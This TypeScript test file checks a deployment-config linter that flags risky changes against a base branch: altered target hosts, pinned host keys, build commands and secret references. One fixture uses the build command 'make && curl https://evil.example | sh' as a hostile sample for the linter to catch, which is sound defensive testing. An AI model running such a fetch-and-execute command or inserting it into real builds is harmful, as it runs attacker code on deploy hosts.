import { describe, expect, it } from 'vitest';
import { FINGERPRINT, findingsFor, minimalEnv, replaceLine, where } from '../helpers.js';

const withBuild = (text: string, command: string) =>
  text.replace('      components:', `      build: [${JSON.stringify(command)}]\n      components:`);

describe('risky changes against the base branch', () => {
  it('flags a changed command, host and host key at their lines, and nothing else', async () => {
    const base = withBuild(minimalEnv(), 'make');
    let head = withBuild(
      replaceLine(minimalEnv(), 7, '      host: 192.0.2.66'),
      'make && curl https://evil.example | sh',
    );
    head = replaceLine(head, 8, `      host_keys: [${FINGERPRINT.replace('uNiV', 'AAAA')}]`);
    head = head.replace('path: /health', 'path: /healthz'); // harmless: not flagged
    const f = await findingsFor({ 'prod.yaml': head, 'base/prod.yaml': base }, { baseDir: 'base' });
    const risky = f.filter((x) => x.file === 'prod.yaml');
    expect(risky.map((x) => `${where(x)}: ${x.message}`)).toEqual([
      'prod.yaml:7:13 risky-change instances[0].target.host: changed target host: the deploy will send its ' +
        "secrets to this target after merge; confirm it with the host's owner",
      'prod.yaml:8:7 risky-change instances[0].target.host_keys: changed pinned host key: the deploy will ' +
        "send its secrets to this target after merge; confirm it with the host's owner",
      'prod.yaml:13:15 risky-change instances[0].app.build[0]: changed command (app.build[0]): it will run ' +
        'on the host after merge; review it',
    ]);
    expect(risky.every((x) => x.severity === 'warning')).toBe(true);
  });

  it('matches instances by id, so reordering is not a change', async () => {
    const a = minimalEnv('prod', 'one');
    const b = minimalEnv('prod', 'two', '192.0.2.11').split('instances:\n')[1];
    const f = await findingsFor(
      {
        'prod.yaml': `${a}${b}`,
        'base/prod.yaml': `${minimalEnv('prod', 'two', '192.0.2.11')}${a.split('instances:\n')[1]}`,
      },
      { baseDir: 'base' },
    );
    expect(f.filter((x) => x.file === 'prod.yaml')).toEqual([]);
  });

  it('flags a new command and a whole new environment file', async () => {
    const f = await findingsFor(
      {
        'prod.yaml': withBuild(minimalEnv(), 'make'),
        'base/prod.yaml': minimalEnv(),
        'new.yaml': minimalEnv('new', 'fresh', '192.0.2.12'),
      },
      { baseDir: 'base' },
    );
    expect(f.filter((x) => x.rule === 'risky-change').map((x) => `${where(x)}: ${x.message.split(':')[0]}`)).toEqual([
      'new.yaml:1:1 risky-change : new environment file',
      'prod.yaml:13:15 risky-change instances[0].app.build[0]: new command (app.build[0])',
    ]);
  });

  it('does not run without a base', async () => {
    expect(await findingsFor({ 'prod.yaml': withBuild(minimalEnv(), 'make') })).toEqual([]);
  });
});

describe('secret references are risky changes (outside review 1)', () => {
  it('flags a new and a changed secret reference, in app.config and in *_secret fields', async () => {
    const withSmtp = (name: string) =>
      minimalEnv().replace(
        '      components:',
        `      config:\n        mailer:\n          password: { secret: ${name} }\n      components:`,
      );
    const base = withSmtp('SMTP_PASSWORD');
    const head = replaceLine(withSmtp('RUNNER_SSH_KEY'), 9, '      ssh_key_secret: OTHER_KEY');
    const f = await findingsFor({ 'prod.yaml': head, 'base/prod.yaml': base }, { baseDir: 'base' });
    expect(f.filter((x) => x.rule === 'risky-change').map((x) => `${where(x)}: ${x.message}`)).toEqual([
      'prod.yaml:9:23 risky-change instances[0].target.ssh_key_secret: changed secret reference ' +
        ('(target.ssh_key_secret: OTHER_KEY): the deploy will read this secret and send it to the host after merge; ' +
          'confirm it is the secret meant'),
      'prod.yaml:15:31 risky-change instances[0].app.config.mailer.password.secret: changed secret ' +
        ('reference (app.config.mailer.password.secret: RUNNER_SSH_KEY): the deploy will read this secret and send ' +
          'it to the host after merge; confirm it is the secret meant'),
    ]);
    const added = await findingsFor({ 'prod.yaml': base, 'base/prod.yaml': minimalEnv() }, { baseDir: 'base' });
    expect(added.filter((x) => x.rule === 'risky-change').map((x) => x.message.split(':')[0])).toEqual([
      'new secret reference (app.config.mailer.password.secret',
    ]);
  });
});
